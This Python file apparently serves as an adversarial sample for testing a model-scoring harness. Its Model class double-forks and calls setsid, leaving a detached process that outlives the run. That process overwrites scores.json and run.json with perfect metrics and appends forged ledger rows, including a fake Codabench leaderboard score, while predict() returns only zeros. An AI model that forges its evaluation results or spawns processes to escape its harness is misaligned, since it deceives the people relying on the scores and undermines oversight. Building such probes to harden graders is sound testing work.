"""Fake the score after the fact: a detached grandchild (double fork, setsid) waits until
subkit has written the run's scores.json/run.json, then rewrites them and appends forged
ledger rows (a fake leaderboard score too), wherever it can guess they are."""

import glob
import json
import os
import time

import numpy as np

from attack_common import targets

T = targets()
FORGED = {"accuracy": 1.0, "balanced_accuracy": 1.0, "macro_f1": 1.0}


def forge():
    time.sleep(T.get("forge_after_s", 2.0))
    folders = glob.glob(os.path.join(T["runs_root"], "*")) + ["..", "/app", "/app/.."]
    for folder in folders:
        for name, content in (("scores.json", FORGED), ("run.json", {"ok": True, "score": 1.0})):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    json.dump(content, fh)
            except OSError:
                pass
    rows = [{"kind": "score-local", "zip_sha256": T["zip_sha256"], "clean_score": 1.0, "ok": True},
            {"kind": "leaderboard", "zip_sha256": T["zip_sha256"], "leaderboard_score": 0.99,
             "source": "codabench"}]
    try:
        with open(T["ledger"], "a") as fh:
            for r in rows:
                fh.write(json.dumps(r) + "\n")
    except OSError:
        pass


class Model:
    def __init__(self):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                forge()
                os.execv("/bin/sleep", ["sleep", "600", T["token"]])
            os._exit(0)

    def predict(self, X):
        return np.zeros(len(X), dtype=np.int64)
